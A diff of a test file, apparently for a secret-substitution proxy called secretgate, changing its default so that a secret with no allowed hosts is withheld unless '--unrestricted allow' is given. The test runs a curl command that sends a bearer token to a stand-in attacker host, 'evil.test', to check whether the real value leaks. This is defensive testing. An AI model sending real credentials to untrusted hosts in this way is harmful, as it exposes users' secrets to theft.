@@ -136,16 +136,16 @@ describe.skipIf(!CURL)("secretgate run -- curl", () => {
     expect(upstream.received.length).toBe(before + 1)
   }, 300_000)
 
-  it("a secret without hosts: substituted anywhere with a warning by default, withheld with --unrestricted deny", async () => {
+  it("a secret without hosts: substituted anywhere with a warning under --unrestricted allow, never by default", async () => {
     const created = await secretgate(["secret", "create", "anyhost"], { env: { SECRETGATE_STORE: store }, input: VALUE })
     expect(created.code).toBe(0)
     const trustBoth = `cat "$CURL_CA_BUNDLE" ${CA_FILE} > "$TMPDIR/both.pem" && curl --cacert "$TMPDIR/both.pem"`
     const curl = `${trustBoth} -sS --fail -o /dev/null -H "Authorization: Bearer $ANY" ${url("evil.test", "/echo")}; code=$?; rm -f "$TMPDIR/both.pem"; exit $code`
-    const allowed = await run(["--mount", "ANY=anyhost"], ["sh", "-c", curl])
+    const allowed = await run(["--mount", "ANY=anyhost", "--unrestricted", "allow"], ["sh", "-c", curl])
     expect(allowed.code).toBe(0)
     expect(lastReceived().headers["authorization"]).toBe(`Bearer ${VALUE}`)
     expect(allowed.stderr).toContain("anyhost: 1 substituted, 0 withheld, 0 blocked — the secret has no hosts: its value went to every host asked for")
-    const denied = await run(["--mount", "ANY=anyhost", "--unrestricted", "deny"], ["sh", "-c", curl])
+    const denied = await run(["--mount", "ANY=anyhost"], ["sh", "-c", curl])
     expect(denied.code).toBe(0)
     expect(lastReceived().headers["authorization"]).toMatch(/^Bearer sg_secret_/)
     expect(denied.stderr).toContain("anyhost: 0 substituted, 0 withheld, 0 blocked") // tunnelled: nothing may be substituted
